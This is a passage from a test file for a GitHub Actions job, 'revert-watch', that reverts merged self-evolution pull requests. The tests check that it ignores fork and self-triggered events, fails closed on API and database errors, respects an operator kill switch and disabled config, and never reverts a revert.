      { event: 'pull_request', head_repository: { full_name: 'evil/octo-repo' } },
      'not for the default branch'
    ],
    [
      'its own workflow',
      { path: '.github/workflows/self-evolution-revert.yml' },
      "revert-watch's own workflow"
    ]
  ])('%s: a notice, no read of the database, no write', async (_name, over, says) => {
    const remote = buildRemote(LIVE)
    let opened = 0
    const r = await job(remote, {
      event: workflowRunEvent(remote.mergeSha, over),
      openDatabase: async () => {
        opened++
        return { ...db, close: async () => {} }
      }
    })
    expect(r.host.failed).toBeUndefined()
    expect(r.main.status).toBe('skipped')
    expect(r.host.lines.some(l => l.level === 'notice' && l.text.includes(says))).toBe(true)
    expect(opened).toBe(0)
    expect(fake.requests).toEqual([])
  })

  it('fails on any event but workflow_run', async () => {
    const remote = buildRemote(LIVE)
    const r = await job(remote, { eventName: 'push' })
    expect(r.main.status).toBe('failed')
    expect(r.host.failed).toMatch(/revert-watch.*workflow_run events.*"push" event/)
  })

  it('fails on a workflow_run payload without a head SHA', async () => {
    const remote = buildRemote(LIVE)
    const r = await job(remote, { event: workflowRunEvent('not-a-sha') })
    expect(r.host.failed).toMatch(/workflow_run\.head_sha "not-a-sha"; expected a commit SHA/)
  })
})

describe('failing closed', () => {
  it('stops when GET /commits/{sha}/pulls fails, writing and recording nothing', async () => {
    const remote = buildRemote(LIVE)
    const { mergeSha: _u, ...submitted } = mergedPayload(remote.mergeSha)
    void _u
    await seedAction({ runDate: '2026-11-24', action: { status: 'submitted', payload: submitted } })
    fake.failNext(/\/commits\/[0-9a-f]+\/pulls/, 404, { times: 1 })
    const r = await job(remote)
    expect(r.main.status).toBe('failed')
    expect(r.host.failed).toMatch(/commits/)
    expect(fake.writes()).toEqual([])
    expect((await rows()).actions.map(a => a.status)).toEqual(['submitted'])
  })

  it('stops when the database cannot be opened', async () => {
    const remote = buildRemote(LIVE)
    const r = await job(remote, {
      openDatabase: async () => {
        throw new Error('connection refused')
      }
    })
    expect(r.main.status).toBe('failed')
    expect(r.host.failed).toContain('connection refused')
    expect(fake.requests).toEqual([])
  })

  it('deletes the pushed branch again when the pull request cannot be opened', async () => {
    const remote = buildRemote(LIVE)
    await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    fake.failNext(/\/pulls$/, 422, { method: 'POST', message: 'Validation Failed' })
    const r = await job(remote)
    expect(r.main.status).toBe('failed')
    expect(remoteBranches(remote)).toEqual(['refs/heads/main'])
    const after = await rows()
    expect(after.rollbacks).toEqual([])
    expect(after.actions.map(a => a.status)).toEqual(['merged'])
  })

  it('keeps the revert branch when someone else pushed to it before the pull request failed', async () => {
    const remote = buildRemote(LIVE)
    await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    const branch = `self-evolution/revert-${PR}`
    let theirs = ''
    const unroute = fake.route('POST', '/repos/{owner}/{repo}/pulls', () => {
      // Another push lands on the branch between this job's push and its pull request.
      theirs = git(remote.bare, ['commit-tree', `${branch}^{tree}`, '-p', branch, '-m', 'their work'])
      git(remote.bare, ['update-ref', `refs/heads/${branch}`, theirs])
      return githubError(422, 'Validation Failed')
    })
    try {
      const r = await job(remote)
      expect(r.main.status).toBe('failed')
    } finally {
      unroute()
    }
    expect(theirs).toMatch(/^[0-9a-f]{40}$/)
    expect(git(remote.bare, ['rev-parse', `refs/heads/${branch}`])).toBe(theirs)
    expect((await rows()).rollbacks).toEqual([])
  })

  it('refuses to write when the flag is off, and says a revert is due', async () => {
    const remote = buildRemote(LIVE)
    await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    await setFlag(db.sql, { value: false, by: 'operator', now: NOW })
    const r = await job(remote)
    expect(r.host.failed).toMatch(/revert of pull request #101 .* is due, but the self-evolution flag is off/)
    expect(fake.writes()).toEqual([])
    expect(remoteBranches(remote)).toEqual(['refs/heads/main'])
  })

  it('refuses when the committed config is disabled, and says a revert is due', async () => {
    const remote = buildRemote({ ...LIVE, enabled: false })
    await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    const r = await job(remote)
    expect(r.host.failed).toMatch(/is due, but the committed config says "enabled": false/)
    expect(fake.writes()).toEqual([])
  })

  it('refuses without a write-token in a live run', async () => {
    const remote = buildRemote(LIVE)
    await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    const r = await job(remote, { inputs: { 'write-token': '' } })
    expect(r.host.failed).toMatch(/input "write-token" is empty/)
    expect(fake.writes()).toEqual([])
  })

  it('turns the flag off but fails loudly when the notice issues cannot be listed', async () => {
    const remote = buildRemote({ ...LIVE, rollbackConfig: { maxFailuresBeforeDisable: 1 } })
    await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    fake.failNext(/\/issues$/, 404, { method: 'GET' })
    const r = await job(remote)
    expect(r.main.status).toBe('failed')
    expect(r.host.failed).toMatch(/flag for .* is off .* notice issue could not be written/)
    expect((await readKillSwitch(db.sql, fake.fullName)).repository).toBe(false)
    expect(fake.state.issues).toEqual([])
    expect((await rows()).rollbacks).toHaveLength(1)
  })

  it('never reverts a revert', async () => {
    const remote = buildRemote(LIVE)
    await seedAction({
      runDate: '2026-11-24',
      action: { type: 'revert', status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    const r = await job(remote)
    expect(r.main.status).toBe('skipped')
    expect(summary(r.host)).toContain('a revert is never reverted')
    expect(fake.writes()).toEqual([])
  })
})
